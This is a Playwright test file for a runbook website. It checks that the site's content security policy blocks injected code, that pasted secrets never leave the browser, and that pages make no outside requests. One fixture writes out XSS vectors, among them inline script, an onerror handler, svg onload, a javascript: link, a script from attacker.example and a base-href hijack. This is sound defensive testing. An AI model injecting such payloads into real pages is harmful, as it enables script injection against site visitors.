import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { useSite } from '../support/browser.ts';
import { openAll } from '../support/open-all.ts';
import { pageOfEachType } from '../support/pages.ts';
import { recordRefusals } from '../support/refusals.ts';

const site = useSite();
const types = pageOfEachType();

describe('the pages comply with their own policy', () => {
	test.each(types)('$type ($pathname)', async ({ pathname }) => {
		await site.withPage({}, async (page) => {
			const seen = await watch(page);
			await page.goto(pathname);
			expect(await seen.problems()).toEqual([]);
		});
	});

	test('and everything that a page must not do would be noticed', async () => {
		await site.withPage({}, async (page) => {
			const seen = await watch(page);
			// No request of a test may leave the machine.
			await page.route(/provoked/, (route) => route.abort('failed'));
			await page.goto('/');
			await page.evaluate(() => {
				document.body.append(Object.assign(document.createElement('script'), { textContent: 'alert(1)' }));
				console.error('provoked');
				setTimeout(() => {
					throw new Error('provoked');
				});
				void fetch('/provoked').catch(() => undefined);
				location.href = 'https://provoked.example/';
			});
			const kinds = () => [...new Set(seen.noted().map((problem) => problem.replace(/:.*/s, '')))].sort();
			await expect.poll(kinds).toEqual(['console', 'exception', 'failed', 'refused', 'request']);
		});
	});

	test('while a reader looks something up from a page and follows the first result', async () => {
		await site.withPage({}, async (page) => {
			const seen = await watch(page);
			await page.goto('/runbooks/');
			await page.keyboard.press('/');
			await page.keyboard.type('connection');
			await page.locator('dialog .words li').first().waitFor();
			await page.locator('dialog form button').click();
			await page.waitForURL((url) => url.pathname === '/search/');
			const first = page.locator('.results a').first();
			await first.click();
			await page.waitForURL((url) => !url.pathname.startsWith('/search/'));
			await page.waitForLoadState('load');
			expect(await seen.problems()).toEqual([]);
		});
	});

	test('while a reader copies a command, ticks it and switches the theme', async () => {
		await site.withPage({ permissions: ['clipboard-read', 'clipboard-write'] }, async (page) => {
			const seen = await watch(page);
			await page.goto(types.find(({ type }) => type === 'runbooks/*')?.pathname ?? '');
			await page.locator('hs-theme button').click();
			await openAll(page);
			const command = page.locator('.mitigation hs-command').first();
			await command.locator('button').click();
			await page.getByRole('button', { name: 'Copy as it is' }).click();
			const shown = (await command.locator('pre code').textContent())?.trimEnd();
			await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(shown);
			await page.locator('.tick input').first().check();
			await page.locator('.tick time').waitFor({ state: 'attached' });
			expect(await seen.problems()).toEqual([]);
		});
	});
});

describe('a paste stays in the browser', () => {
	const SECRET = 'hunter2';
	const PASTE = `sqlalchemy.exc.TimeoutError: QueuePool limit of size 5 overflow 10 reached\n password=${SECRET} connection timed out, timeout 30.00`;

	test.each(['/', '/search/'])('when it is put into the box of %s', async (pathname) => {
		await site.withPage({}, async (page) => {
			const asked = requestsOf(page);
			await page.goto(pathname);
			await page.locator('main hs-paste textarea').fill(PASTE);
			await page.locator('main form button').click();
			await page.waitForURL((url) => url.pathname === '/search/');
			await expect.poll(() => page.locator('main hs-paste textarea').inputValue()).toBe(PASTE);
			expect(page.url()).not.toContain(SECRET);
			await expectNotSent(page, asked);
		});
	});

	test('when it is put into the dialog of a page, even while scripts are slow to arrive', async () => {
		await site.withPage({}, async (page) => {
			const asked = requestsOf(page);
			await page.goto('/runbooks/');
			await page.route(/\/_astro\/.*\.js$/, async (route) => {
				await new Promise((resolve) => setTimeout(resolve, 500));
				await route.continue();
			});
			await page.keyboard.press('/');
			await page.locator('dialog textarea').fill(PASTE);
			await page.locator('dialog form button').click();
			await page.waitForURL((url) => url.pathname === '/search/');
			await expectNotSent(page, asked);
		});
	});

	test('when JavaScript is off and the form can only lead to the lists', async () => {
		await site.withPage({ javaScriptEnabled: false }, async (page) => {
			const asked = requestsOf(page);
			for (const pathname of ['/', '/search/']) {
				await page.goto(pathname);
				await page.locator('main hs-paste textarea').fill(PASTE);
				await page.locator('main hs-paste button').click();
				await page.waitForURL((url) => url.pathname === '/search/');
				expect(await page.locator('noscript a[href="/errors/"], main a[href="/errors/"]').count()).toBeGreaterThan(0);
			}
			await expectNotSent(page, asked);
		});
	});

	/** Expects that no request had the secret, once the page has none left to send; and that one with it is recorded. */
	async function expectNotSent(page: Page, asked: readonly string[]): Promise<void> {
		await page.waitForLoadState('networkidle');
		const withSecret = () => asked.filter((request) => request.includes(SECRET));
		expect(withSecret()).toEqual([]);
		await page.goto(`/?${SECRET}`);
		expect(withSecret().length).toBeGreaterThan(0);
	}
});

describe('code that is injected into a page', () => {
	/** Each part that runs adds its name to `pwned`. */
	const PAYLOAD = `<script>(window.pwned ??= []).push('script')</script>
		<img src="/no-such-picture" onerror="(window.pwned ??= []).push('handler')">
		<svg onload="(window.pwned ??= []).push('svg')"></svg>
		<script src="https://attacker.example/x.js"></script>
		<a id="bait" href="javascript:void (window.pwned ??= []).push('link')">bait</a>
		<base href="https://attacker.example/">`;
	const PARTS = ['file', 'handler', 'link', 'script', 'svg'];
	const ran = (page: Page) => page.evaluate(() => [...((window as { pwned?: string[] }).pwned ?? [])].sort());

	test.each(types)('does not run on $type', async ({ pathname }) => {
		await site.withPage({}, async (page) => {
			const refused = await recordRefusals(page);
			await inject(page, PAYLOAD, { withPolicy: true });
			await page.goto(pathname);
			await page.locator('#bait').dispatchEvent('click');
			// Two policies, or one and a header, refuse each part and the base: the browser has come to all of them.
			await expect.poll(() => refused.length).toBe(2 * (PARTS.length + 1));
			expect(new Set(refused.map((refusal) => refusal.split(' ')[0]))).toEqual(
				new Set(['script-src-elem', 'script-src-attr', 'base-uri']),
			);
			expect(await ran(page)).toEqual([]);
			expect(await page.evaluate(() => document.baseURI)).not.toContain('attacker');
		});
	});

	test('would run in each of its parts if the page had no policy', async () => {
		await site.withPage({}, async (page) => {
			await inject(page, PAYLOAD, { withPolicy: false });
			await page.goto('/');
			await page.locator('#bait').dispatchEvent('click');
			await expect.poll(() => ran(page)).toEqual(PARTS);
			expect(await page.evaluate(() => document.baseURI)).toContain('attacker');
		});
	});
});

/** Puts `payload` at the end of every page, on its way to the browser. */
async function inject(page: Page, payload: string, { withPolicy }: { withPolicy: boolean }): Promise<void> {
	await page.route(`${site.url}/**`, async (route) => {
		if (route.request().resourceType() !== 'document') return route.continue();
		const response = await route.fetch();
		const html = (await response.text()).replace(/<\/body>|$/, (end) => payload + end);
		if (withPolicy) return route.fulfill({ response, body: html });
		const { 'content-security-policy': policy, ...headers } = response.headers();
		expect(policy).toBeDefined();
		const body = html.replace(/<meta[^>]*content-security-policy[^>]*>/gi, '');
		expect(body).not.toBe(html);
		return route.fulfill({ response, headers, body });
	});
	// No request of a test may leave the machine.
	await page.route(/attacker\.example/, (route) =>
		route.fulfill({ contentType: 'text/javascript', body: "(window.pwned ??= []).push('file')" }),
	);
}

/** Address and body of every request. */
function requestsOf(page: Page): string[] {
	const asked: string[] = [];
	page.on('request', (request) => asked.push(`${decodeURIComponent(request.url())} ${request.postData() ?? ''}`));
	return asked;
}

/** Records everything that a page must not do: violate the policy, log an error, fail, or contact another origin. */
async function watch(page: Page): Promise<Watch> {
	const problems: string[] = [];
	page.on('console', (message) => {
		if (message.type() === 'error' || message.type() === 'warning') problems.push(`console: ${message.text()}`);
	});
	page.on('pageerror', (error) => problems.push(`exception: ${error.message}`));
	page.on('requestfailed', (request) => {
		// Leaving a page cancels its pending requests.
		const reason = request.failure()?.errorText ?? '';
		if (reason !== 'net::ERR_ABORTED') problems.push(`failed: ${request.url()} ${reason}`);
	});
	page.on('request', (request) => {
		const { protocol, origin } = new URL(request.url());
		if (protocol !== 'data:' && protocol !== 'blob:' && origin !== site.url) problems.push(`request: ${request.url()}`);
	});
	const refused = await recordRefusals(page);
	const noted = () => [...problems, ...refused.map((refusal) => `refused: ${refusal}`)];
	return {
		noted,
		async problems() {
			await page.waitForLoadState('networkidle');
			// What the page did wrong itself arrives before this does, by the same routes.
			await page.evaluate(() => {
				console.error('https://last.example/');
				void fetch('https://last.example/').catch(() => undefined);
				setTimeout(() => {
					throw new Error('https://last.example/');
				});
			});
			const last = () => noted().filter((problem) => problem.includes('last.example'));
			await expect
				.poll(() => [...new Set(last().map((problem) => problem.replace(/:.*/s, '')))])
				.toEqual(expect.arrayContaining(['console', 'exception', 'refused']));
			return noted().filter((problem) => !last().includes(problem));
		},
	};
}

interface Watch {
	/** Problems up to now. */
	noted: () => string[];
	/** All problems, once the page has finished its work. */
	problems: () => Promise<string[]>;
}
